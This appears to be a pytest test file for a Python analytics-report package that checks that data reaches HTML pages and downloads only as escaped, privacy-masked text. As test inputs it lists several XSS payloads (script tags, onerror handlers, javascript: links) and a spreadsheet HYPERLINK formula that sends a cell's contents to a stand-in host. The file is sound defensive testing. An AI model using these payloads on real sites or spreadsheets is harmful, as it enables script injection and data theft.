"""The one escaping boundary (issue #10): data text reaches pages only as escaped, masked text."""

from __future__ import annotations

import json
import re
from pathlib import Path

import matplotlib
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from growthlab import plots, privacy
from growthlab.report import html as rhtml
from growthlab.report import notebook as nbk

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "[x](javascript:alert(3))",
    "<a href='javascript:alert(4)'>x</a>",
    "**bold** _it_ `code` # heading",
    "&lt;script&gt;",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_sentence_values_are_text_never_markup(value):
    out = nbk.sentence_html("en", en="## Channel {c}\nCampaign **{c}** is _viral_.", c=value)
    assert rhtml.active_content(out) == []
    # The template's own Markdown is rendered; the value is exactly its escaped self.
    assert out.startswith("<h2>") and "<strong>" in out and "<em>viral</em>" in out
    assert out.count(nbk.escape(value)) == 2
    assert "<a " not in out


@given(st.text(max_size=40))
def test_any_value_round_trips_as_text(value):
    out = nbk.sentence_html("en", en="x {v} y", v=value)
    assert rhtml.active_content(out) == []
    inner = re.fullmatch(r"<p>x (.*) y</p>", out, re.S)
    if value.strip() and "\n" not in value and "\r" not in value:
        assert inner is not None
        import html as _html

        assert _html.unescape(inner.group(1)) == privacy.mask_personal(value)


def test_language_pick_and_plain_text():
    assert nbk.sentence_html("zh", en="a {x}", zh="甲 {x}", x="<b>") == "<p>甲 &lt;b&gt;</p>"
    # text() is plain text (for chart labels or as a value of say): not escaped, not HTML.
    assert nbk.text("en", en="{a} & {b}", a="<i>", b=1) == "<i> & 1"


def test_table_cells_headers_and_index_are_escaped_and_masked():
    df = pd.DataFrame(
        {"<b>name</b>": ["<script>alert(1)</script>", "13812345678"], "n": [1.234, None]},
        index=pd.Index(["<i>x</i>", "a@b.com"], name="<u>idx</u>"),
    )
    out = nbk.table_html(df, {"n": "{:.1f}"}, index=True)
    assert rhtml.active_content(out) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "&lt;b&gt;name&lt;/b&gt;" in out and "&lt;i&gt;x&lt;/i&gt;" in out
    assert "13812345678" not in out and "a@b.com" not in out
    assert "[phone]" in out and "[email]" in out
    assert ">1.2<" in out and ">–<" in out
    assert "&lt;i&gt;x&lt;/i&gt;" not in nbk.table_html(df)  # index hidden by default


def test_table_with_multiindex_columns():
    df = pd.DataFrame({("spend", "<b>"): [1.0], ("roas", "13812345678"): [2.0]})
    out = nbk.table_html(df, "{:,.2f}")
    assert rhtml.active_content(out) == [] and "&lt;b&gt;" in out and "[phone]" in out


def test_recorded_text_is_masked(tmp_path, monkeypatch):
    path = tmp_path / "m.json"
    monkeypatch.setenv(nbk.METRICS_ENV, str(path))
    nbk.record("k_by_campaign", {"13812345678": 1.0, "c1": 2.0}, namespace="t")
    nbk.record("ab_experiment", "owner a@b.com", namespace="t")
    data = json.loads(path.read_text(encoding="utf-8"))["t"]
    assert data["k_by_campaign"]["value"] == {"[phone]": 1.0, "c1": 2.0}
    assert data["ab_experiment"]["value"] == "owner [email]"


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("call 13812345678 now", "call [phone] now"),
        ("+86 138 1234 5678", "[phone]"),
        ("0086-13812345678", "[phone]"),
        ("id 11010519491231002X.", "id [id-card]."),
        ("mail: Zhang.San+x@corp.example.cn", "mail: [email]"),
        ("U0000001 O00000001 2025-01-01 12345678901", "U0000001 O00000001 2025-01-01 12345678901"),
        ("订单 100.00 元", "订单 100.00 元"),
    ],
)
def test_mask_personal(text, masked):
    assert privacy.mask_personal(text) == masked
    assert privacy.mask_personal(pd.Series([text, None])).tolist()[0] == masked


def test_active_content_finds_what_runs():
    page = (
        "<p>ok</p><img src='data:image/png;base64,AAAA'><a href='#x'>in page</a>"
        "<a href='other.html'>other</a>"
    )
    assert rhtml.active_content(page) == []
    for bad in [
        "<script>1</script>",
        "<img src=x onerror=alert(1)>",
        "<svg><g onload=alert(1)></g></svg>",
        "<a href=' JaVaScRiPt:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<iframe srcdoc='x'></iframe>",
        "<meta http-equiv=refresh content='0;url=https://example.com'>",
        "<form action=x><button>go</button></form>",
        "<div style='width: expression(alert(1))'>",
    ]:
        assert rhtml.active_content(page + bad), bad


def test_render_refuses_a_page_with_active_content(tmp_path):
    import nbformat

    nb = nbformat.v4.new_notebook()
    out = nbformat.v4.new_code_cell("x", outputs=[])
    out.outputs = [
        nbformat.v4.new_output(
            "display_data", data={"text/html": "<img src=x onerror=alert(1)>", "text/plain": ""}
        )
    ]
    nb.cells = [nbformat.v4.new_markdown_cell("# T"), out]
    src = tmp_path / "n.ipynb"
    nbformat.write(nb, str(src))
    with pytest.raises(rhtml.UnsafePageError, match="event handler"):
        rhtml.render(src, tmp_path / "n.html", header="")
    assert not (tmp_path / "n.html").exists()


def test_chart_labels_from_data_are_not_mathtext():
    import matplotlib.pyplot as plt

    plots.apply()
    assert matplotlib.rcParams["text.parse_math"] is False
    fig, ax = plt.subplots()
    ax.bar([r"$\x$ cost", "$a_b$"], [1, 2])
    ax.set_title(r"$\x$")
    fig.canvas.draw()  # would raise ValueError: Unknown symbol: \x with mathtext on
    assert ax.get_title() == r"$\x$"
    plt.close(fig)


def test_notebooks_show_data_only_through_the_boundary():
    """Notebooks display tables with report.show and sentences with report.say, nothing else."""
    import nbformat

    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
        code = "\n".join(
            c.source for c in nbformat.read(str(path), as_version=4).cells if c.cell_type == "code"
        )
        assert ".style" not in code, path.name
        assert "Markdown(" not in code, path.name
        for call in re.findall(r"(?<![\w.])display\(\s*(.{0,40})", code):
            # Only the summary's section links, built and escaped in growthlab.report.summary.
            assert call.startswith("HTML(summary."), (path.name, call)


_PIECES = st.sampled_from(
    [
        "13812345678",
        "+86 138 1234 5678",
        "0086-139-1234-5678",
        "11010519491231002X",
        "a.b+c@mail.example.cn",
        "12345678901",
        "x",
        " ",
        ",",
        "7",
        "@",
        "渠道",
        "U0000001",
    ]
)


@given(st.lists(_PIECES, max_size=6).map("".join))
def test_engine_and_python_mask_the_same_text(text):
    import duckdb

    con = duckdb.connect()
    sql = con.execute(
        f"SELECT {privacy.mask_personal_sql('x')} FROM (SELECT ?::VARCHAR AS x)", [text]
    ).fetchone()[0]
    assert sql == privacy.mask_personal(text)


def test_table_headers_follow_the_page_language():
    df = pd.DataFrame({"users": [12], "unknown_col": [1.0]})
    zh = nbk.table_html(df, {"unknown_col": "{:.1f}"}, lang="zh")
    assert ">用户数<" in zh and ">unknown_col<" in zh and ">1.0<" in zh
    assert ">Users<" in nbk.table_html(df, lang="en")
    assert ">users<" in nbk.table_html(df)  # no lang: names as they are


def test_charts_are_described_by_their_titles_and_axes(tmp_path):
    import base64

    import matplotlib.pyplot as plt
    import nbformat

    from growthlab.plots import theme

    fig, (a, b) = plt.subplots(1, 2)
    fig.suptitle("Referral")
    a.set_title("K by campaign")
    a.set_xlabel("campaign")
    a.set_ylabel("K")
    b.set_title("每代 K")
    assert theme.chart_description(fig) == "Referral; K by campaign — x: campaign, y: K; 每代 K"
    plt.close(fig)
    png = base64.b64encode(b"\x89PNG").decode()
    out = nbformat.v4.new_output(
        "display_data",
        data={"image/png": png, "text/plain": "<Figure>"},
        metadata={"image/png": {"alt": 'K by <campaign> " x'}},
    )
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("fig", outputs=[out])]
    nbformat.write(nb, str(tmp_path / "n.ipynb"))
    page = rhtml.render(tmp_path / "n.ipynb", tmp_path / "n.html", header="").read_text()
    assert rhtml.active_content(page) == []
    img = re.search(r"<img[^>]*>", page).group(0)
    assert "K by &lt;campaign&gt; &quot; x" in img or 'K by &lt;campaign&gt; " x' in img


def test_channel_columns_show_display_names():
    df = pd.DataFrame({"channel": ["wecom", "<b>unknown</b>"], "users": [10, 12]})
    zh = nbk.table_html(df, lang="zh")
    assert ">企业微信<" in zh and "&lt;b&gt;unknown&lt;/b&gt;" in zh and ">渠道<" in zh
    assert ">WeCom 1:1<" in nbk.table_html(df, lang="en")


def test_tables_are_saved_for_download_as_shown(tmp_path, monkeypatch):
    import openpyxl

    monkeypatch.setenv(nbk.TABLES_ENV, str(tmp_path / "tables" / "02_referral"))
    shown, _ = nbk.display_frame(
        pd.DataFrame({"channel": ["wecom", "13812345678"], "users": [10, 12]}), lang="zh"
    )
    links = nbk.save_table(shown, "k by campaign")
    assert links == [
        ("CSV", "tables/02_referral/k_by_campaign.csv"),
        ("XLSX", "tables/02_referral/k_by_campaign.xlsx"),
    ]
    csv = (tmp_path / links[0][1]).read_text(encoding="utf-8-sig")
    assert csv.splitlines() == ["渠道,用户数", "企业微信,10", "[phone],12"]
    sheet = openpyxl.load_workbook(tmp_path / links[1][1]).active
    assert [c.value for c in sheet[3]] == ["[phone]", 12]
    monkeypatch.delenv(nbk.TABLES_ENV)
    assert nbk.save_table(shown) == []  # outside a run nothing is written


def test_downloads_never_hold_a_live_formula(tmp_path, monkeypatch):
    """A campaign id such as =HYPERLINK(...) is text in the CSV and the XLSX (CSV injection)."""
    import openpyxl

    monkeypatch.setenv(nbk.TABLES_ENV, str(tmp_path / "tables" / "02_referral"))
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    shown, _ = nbk.display_frame(
        pd.DataFrame({"campaign_id": [evil, "+cmd", "-1.5", "spring"], "users": [1, 2, 3, 4]}),
        lang="en",
    )
    links = nbk.save_table(shown, "campaigns")
    csv = (tmp_path / links[0][1]).read_text(encoding="utf-8-sig").splitlines()
    assert csv[1].startswith("\"'=HYPERLINK(") and csv[2] == "'+cmd,2"
    assert csv[3] == "-1.5,3"  # a number stays a number
    book = openpyxl.load_workbook(tmp_path / links[1][1])
    cell = book.active["A2"]
    assert cell.value == evil and cell.data_type == "s"  # text, not a formula


def test_numbers_have_thousands_separators_whatever_the_formats():
    df = pd.DataFrame({"n": [2155, 12], "p": [0.123, 0.5]})
    cells = re.findall(r">([^<>]+)</td>", nbk.table_html(df, {"p": "{:.1%}"}))
    assert cells == ["2,155", "12.3%", "12", "50.0%"]
